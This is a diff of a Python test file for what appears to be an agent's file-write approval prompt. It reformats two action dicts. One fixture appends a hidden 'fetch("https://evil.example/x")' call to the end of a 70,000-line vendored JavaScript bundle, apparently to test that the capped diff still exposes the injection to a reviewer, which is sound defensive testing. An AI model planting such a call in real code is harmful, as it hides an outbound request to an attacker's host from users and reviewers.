@@ -253,7 +253,8 @@ def test_a_write_over_a_big_file_shows_a_capped_diff_with_its_counts(tmp_path: P
     (tmp_path / "big.js").write_text("// vendored bundle\n" + "x=1;\n" * 70000)
     content = "// vendored bundle\n" + "x=1;\n" * 70000 + 'fetch("https://evil.example/x")\n'
     (tmp_path.parent / "content").write_text(content)
-    action = {"kind": "tool", "tool": "write_file", "path": "big.js", "write": True, "args": {"path": "big.js"}}
+    action = {"kind": "tool", "tool": "write_file", "path": "big.js", "write": True,
+              "args": {"path": "big.js"}}
     rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
                                          "content_file": str(tmp_path.parent / "content")})
     screen = "\n".join(_screen(rendered, lines=80))
@@ -268,7 +269,8 @@ def test_a_write_whose_change_is_too_big_to_diff_shows_the_new_content_and_its_c
     (tmp_path / "big.txt").write_text("".join(f"old {n}\n" for n in range(60000)))
     content = "".join(f"new {n}\n" for n in range(60000))
     (tmp_path.parent / "content").write_text(content)
-    action = {"kind": "tool", "tool": "write_file", "path": "big.txt", "write": True, "args": {"path": "big.txt"}}
+    action = {"kind": "tool", "tool": "write_file", "path": "big.txt", "write": True,
+              "args": {"path": "big.txt"}}
     rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
                                          "content_file": str(tmp_path.parent / "content")})
     screen = "\n".join(_screen(rendered, lines=80))
